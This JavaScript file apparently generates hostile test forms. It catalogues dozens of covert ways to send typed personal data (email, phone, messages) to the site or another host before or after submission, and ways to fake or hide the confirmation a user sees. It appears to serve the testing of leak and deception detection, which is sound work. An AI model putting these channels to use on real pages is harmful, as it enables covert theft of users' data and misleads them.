// What a hostile page is made of. Each table's names are those of parts.py: WHEN it sends, HOW, in which ENCODING, and
// what it SHOWS once it was answered. PAGE says which of them this page has.
const $ = id => document.getElementById(id);
const FIELDS = ['email', 'first', 'phone', 'case', 'subject', 'message'];
const typed = () => Object.fromEntries(FIELDS.map(id => [id, $(id).value]).filter(([, value]) => value));
const screens = ['details', 'review', 'thanks'];
const show = id => screens.forEach(each => { $(each).hidden = each !== id; });
const later = [];  // what waits for the answer
const bytes = text => new TextEncoder().encode(text);
const binary = array => String.fromCharCode(...array);
const make = (tag, attributes, parent = document.head) =>
  parent.appendChild(Object.assign(document.createElement(tag), attributes));

// --- what is carried, and how it is written
const CARRIES = {
  'all': () => $('message').value ? typed() : {d: ''},
  'message': () => ({message: $('message').value}),
  'e-mail': () => ({email: $('email').value}),
  'nothing': () => ({log: 'shown', at: 1}),
};
const form = data => new URLSearchParams(data).toString();
const base64 = text => btoa(binary(bytes(text)));
const utf16 = text => Uint8Array.from([...text].flatMap(c => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8]));
const ENCODINGS = {
  'json': data => JSON.stringify(data),
  'escaped': data => JSON.stringify({d: JSON.stringify(data)}).replace(/[^ -~]/g,
    c => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')),
  'lines': data => Object.values(data).join('\n'),
  'form': form,
  'multipart': data => { const parts = new FormData(); Object.entries(data).forEach(e => parts.append(...e)); return parts; },
  'percent': data => encodeURIComponent(JSON.stringify(data)),
  'percent twice': data => encodeURIComponent(encodeURIComponent(JSON.stringify(data))),
  'base64': data => base64(JSON.stringify(data)),
  'base64url': data => base64(JSON.stringify(data)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, ''),
  'base64 of form': data => base64(form(data)),
  'upper case': data => JSON.stringify(data).toUpperCase(),
  'lower case': data => JSON.stringify(data).toLowerCase(),
  'hex': data => [...bytes(JSON.stringify(data))].map(b => b.toString(16).padStart(2, '0')).join(''),
  'utf-16': data => utf16(JSON.stringify(data)),
};
const text = body => body instanceof FormData ? form([...body]) : body instanceof Uint8Array ? binary(body) : body;
const query = (url, body) => `${url}?d=${encodeURIComponent(text(body))}`;

// --- how it is sent; each gets an address and a body, and may give back the answer
const post = (more = {}) => (url, body) => fetch(url, {method: 'POST', body, ...more});
const posting = (target, more = {}) => (url, body, data) => {
  const sheet = make('form', {method: 'post', action: url, target, hidden: true, ...more}, document.body);
  const fields = body instanceof FormData || body === form(data) ? data : {d: text(body)};
  if (body instanceof FormData) sheet.enctype = 'multipart/form-data';
  Object.entries(fields).forEach(([name, value]) => make('input', {name, value}, sheet));
  sheet.submit();
};
const inside = (tag, name, more = {}) => (url, body) => make(tag, {...more, [name]: query(url, body)}, document.body);
const linked = more => (url, body) => make('link', {...more, href: query(url, body)});
const speculating = kind => (url, body) => make('script', {type: 'speculationrules',
  textContent: JSON.stringify({[kind]: [{source: 'list', urls: [query(url, body)], eagerness: 'immediate'}]})});
const working = source => (url, body) =>
  new Worker(URL.createObjectURL(new Blob([source]))).postMessage([new URL(url, location).href, text(body)]);
const popup = use => (url, body) => {
  const other = open('about:blank');
  if (other) use(other, new URL(url, location).href, body);
};
const cookie = body => encodeURIComponent(text(body)).slice(0, 3900);
const socket = () => new WebSocket(`ws://${location.host}/socket`);
const whenOpen = (ws, send) => ws.readyState === 1 ? send() : ws.addEventListener('open', send);
const calling = transport => (url, body) => {
  const server = {urls: `turn:${PAGE.turn}?transport=${transport}`, username: text(body).slice(0, 500), credential: 'x'};
  const call = new RTCPeerConnection({iceServers: [server]});
  call.createDataChannel('x');
  call.createOffer().then(offer => call.setLocalDescription(offer));
};
const opened = PAGE.socket ? socket() : null;
let workerSocket = null;
if (PAGE.socket === 'worker') workerSocket = new Worker(URL.createObjectURL(new Blob([
  `const ws = new WebSocket('ws://${location.host}/socket'); onmessage = e => ws.send(e.data)`])));
const HOW = {
  'fetch': post(),
  'fetch PUT': post({method: 'PUT'}),
  'fetch PATCH': post({method: 'PATCH'}),
  'fetch keepalive': post({keepalive: true}),
  'fetch no-cors': post({mode: 'no-cors'}),
  'fetch later': (url, body) => globalThis.fetchLater?.(url, {method: 'POST', body, activateAfter: 0}),
  'fetch in pieces': (url, body) => Promise.all(text(body).match(/[^]{1,64}/g).map(piece => post()(url, piece))),
  'fetch GET': (url, body) => fetch(query(url, body)),
  'fetch path': (url, body) => fetch(`${url}/${encodeURIComponent(text(body))}`),
  'XHR': (url, body) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send(body); },
  'sync XHR': (url, body) => { const x = new XMLHttpRequest(); x.open('POST', url, false); try { x.send(body); } catch { } },
  'beacon': (url, body) => navigator.sendBeacon(url, body),
  'form': posting('_self'),
  'GET form': posting('_self', {method: 'get'}),
  'form to a window': posting('_blank'),
  'form to a frame': (url, body, data) => {
    make('iframe', {name: 'into'}, document.body); posting('into')(url, body, data);
  },
  'navigation': (url, body) => { location.href = query(url, body); },
  'history and reload': (url, body) => { history.replaceState(null, '', query('/form', body)); location.reload(); },
  'meta refresh': (url, body) => make('meta', {httpEquiv: 'refresh', content: `0;url=${query(url, body)}`}),
  'link click': (url, body) => make('a', {href: query(url, body)}, document.body).click(),
  'download': (url, body) => make('a', {href: query(url, body), download: 'x'}, document.body).click(),
  'ping': (url, body) => make('a', {href: '#', ping: query(url, body)}, document.body).click(),
  'image': (url, body) => { new Image().src = query(url, body); },
  'image set': inside('img', 'srcset'),
  'picture in a style': (url, body) => { document.body.style.background = `url("${query(url, body)}")`; },
  'style import': (url, body) => make('style', {textContent: `@import "${query(url, body)}";`}),
  'style sheet': linked({rel: 'stylesheet'}),
  'font': (url, body) => new FontFace('x', `url("${query(url, body)}")`).load().catch(() => {}),
  'icon': linked({rel: 'icon'}),
  'manifest': linked({rel: 'manifest'}),
  'prefetch': linked({rel: 'prefetch'}),
  'preload': linked({rel: 'preload', as: 'script'}),
  'modulepreload': linked({rel: 'modulepreload'}),
  'prerender': linked({rel: 'prerender'}),
  'dictionary': linked({rel: 'compression-dictionary'}),
  'speculation prefetch': speculating('prefetch'),
  'speculation prerender': speculating('prerender'),
  'speculation in markup': (url, body) => {
    const rules = {prefetch: [{source: 'list', urls: [query(url, body)], eagerness: 'immediate'}]};
    document.body.append(document.createRange().createContextualFragment(
      `<script type="speculationrules">${JSON.stringify(rules)}<\/script>`));
  },
  'script': inside('script', 'src'),
  'import': (url, body) => import(query(url, body)).catch(() => {}),
  'worklet': (url, body) => CSS.paintWorklet?.addModule(query(url, body)).catch(() => {}),
  'object': inside('object', 'data'),
  'embed': inside('embed', 'src'),
  'video': inside('video', 'src'),
  'poster': inside('video', 'poster'),
  'frame': inside('iframe', 'src'),
  'frame in markup': (url, body) => make('iframe', {srcdoc: `<img src="${query(url, body)}">`}, document.body),
  'fetch in a frame': (url, body) => make('iframe', {}, document.body).contentWindow.fetch(
    new URL(url, location).href, {method: 'POST', body, keepalive: true}),
  'event source': (url, body) => { new EventSource(query(url, body)); },
  'worker': working("onmessage = e => fetch(e.data[0], {method: 'POST', body: e.data[1], keepalive: true})"),
  'worker script': (url, body) => { new Worker(query(url, body)); },
  'shared worker': (url, body) => { new SharedWorker(query(url, body)); },
  'service worker': (url, body) => navigator.serviceWorker?.register(query(url, body)).catch(() => {}),
  'window': (url, body) => { open(query(url, body)); },
  'fetch in a window': popup((other, url, body) => other.fetch(url, {method: 'POST', body, keepalive: true})),
  'beacon in a window': popup((other, url, body) => other.navigator.sendBeacon(url, body)),
  'header': (url, body) => fetch(url, {headers: {'X-Data': encodeURIComponent(text(body))}}),
  'cookie': (url, body) => { document.cookie = `d=${cookie(body)};path=/`; fetch(url); },
  'referrer': (url, body) => {
    history.replaceState(null, '', query('/form', body)); fetch(url, {referrerPolicy: 'unsafe-url'});
  },
  'policy report': (url, body) => {
    history.replaceState(null, '', query('/form', body)); new Image().src = '/picture';
  },
  'socket': (url, body) => whenOpen(opened, () => opened.send(text(body))),
  'socket in small frames': (url, body) => whenOpen(opened, () => text(body).match(/[^]{1,8}/g).forEach(t => opened.send(t))),
  'socket in a worker': (url, body) => workerSocket.postMessage(text(body)),
  'socket address': (url, body) => { new WebSocket(query(`ws://${location.host}${url}`, body)); },
  'socket protocol': (url, body) => {
    new WebSocket(`ws://${location.host}${url}`, text(body).replace(/[^A-Za-z0-9]/g, '.').slice(0, 500));
  },
  'socket cookie': (url, body) => { document.cookie = `d=${cookie(body)};path=/`; socket(); },
  'new socket': (url, body) => { const ws = socket(); whenOpen(ws, () => ws.send(text(body))); },
  'call (UDP)': calling('udp'),
  'call (TCP)': calling('tcp'),
};

// --- when; before the click only once there is something to carry
const on = (target, kind, run, where = {}) => target.addEventListener(kind, run, where);
const reviewing = [];
const WHEN = {
  'input': run => on(document, 'input', run),
  'change': run => on(document, 'change', run),
  'blur': run => on(document, 'focusout', run),
  'timer': run => setInterval(run, 150),
  'next': run => on($('next'), 'click', run, true),
  'review': run => reviewing.push(run),
  'hover': run => on($('submit'), 'mouseover', run, {once: true}),
  'press': run => on($('submit'), 'mousedown', run, {once: true}),
  'click, first': run => on($('submit'), 'click', run, true),
  'click, alone': () => {},
  'after': run => later.push(run),
  'hidden': run => on(document, 'visibilitychange', run),
  'pagehide': run => on(window, 'pagehide', run),
  'load': run => run(),
};
const addresses = {submit: '/submit', read: '/read', elsewhere: `${PAGE.elsewhere}/submit`, 'own name': `${PAGE.own}/submit`};
const attempt = part => {
  const data = CARRIES[part.carries]();
  if (Object.values(data).some(value => value === '')) return undefined;
  return HOW[part.how](addresses[part.to], ENCODINGS[part.encoding](data), data);
};

// --- what is shown in the end
const thank = words => { $('words').textContent = words; show('thanks'); };
const alertSaying = words => { $('alerts').setAttribute('role', 'alert'); $('alerts').textContent = words; };
const thankWith = style => { thank('Your case number is 12345678'); $('review').hidden = false; $('thanks').style = style; };
const SHOWS = {
  'thanks': () => thank('Your case number is 12345678'),
  'thanks without a number': () => thank('We will answer soon.'),
  'thanks with the earlier number': () => thank('Your words were added to case number 00482913.'),
  'thanks with the own phone': () => thank('Your case number follows; we may call 4155550132.'),
  'thanks with a helpline': () => thank('Until you have a case number, call 8002758777.'),
  'thanks with a date': () => thank(`Your case number follows. Received 20261128.`),
  'thanks with two numbers': () => thank('Your case number is 12345678, or case number 87654321.'),
  'thanks and a mapped alert': () => { thank('Your case number is 12345678'); alertSaying('Error: it could not be stored.'); },
  'thanks and another alert': () => { thank('Your case number is 12345678'); alertSaying('Sorry, that was not stored.'); },
  'off-screen thanks': () => thankWith('position:absolute;left:-9999px'),
  'transparent thanks': () => thankWith('opacity:0'),
  'tiny thanks': () => thankWith('font-size:0'),
  'clipped thanks': () => thankWith('position:absolute;width:1px;height:1px;overflow:hidden;clip-path:inset(50%)'),
  'invisible thanks': () => thankWith('visibility:hidden'),
  'shrunk thanks': () => thankWith('transform:scale(0)'),
  'alert': () => alertSaying('Error: something went wrong.'),
  'alert that says received': () => alertSaying('Error: your inquiry was received, but no receipt could be printed.'),
  'another alert': () => alertSaying('Sorry, that was not stored.'),
  'field error': () => {
    show('details'); $('email').setAttribute('aria-invalid', 'true'); $('email').setAttribute('aria-describedby', 'complaint');
    $('complaint').textContent = 'Enter an address that exists.';
  },
  'field error and alert': () => { SHOWS['field error'](); alertSaying('Error: look at the field.'); },
  'first page again': () => show('details'),
  'broken script': () => { throw new Error('a page that fails'); },
  'nothing': () => {},
};

// --- the form itself
const early = PAGE.attempts.filter(part => part.when !== 'click, alone');
const alone = PAGE.attempts.filter(part => part.when === 'click, alone');
early.forEach(part => WHEN[part.when](() => { attempt(part); }));
$('next').onclick = () => {
  $('echo').replaceChildren(...Object.values(typed()).map(value => Object.assign(document.createElement('p'), {textContent: value})));
  show('review');
  reviewing.forEach(run => run());
};
$('submit').onclick = async () => {
  try {
    if (alone.length) for (const part of alone) await attempt(part);
    else if (PAGE.sends) {
      const answer = await fetch('/submit', {method: 'POST', body: JSON.stringify(typed()), headers: {'Content-Type': 'application/json'}});
      await answer.text();
    }
  } catch { if (!PAGE.brave) return; }
  later.forEach(run => run());
  SHOWS[PAGE.shows]();
};
if (PAGE.answered) { show('review'); SHOWS[PAGE.shows](); }
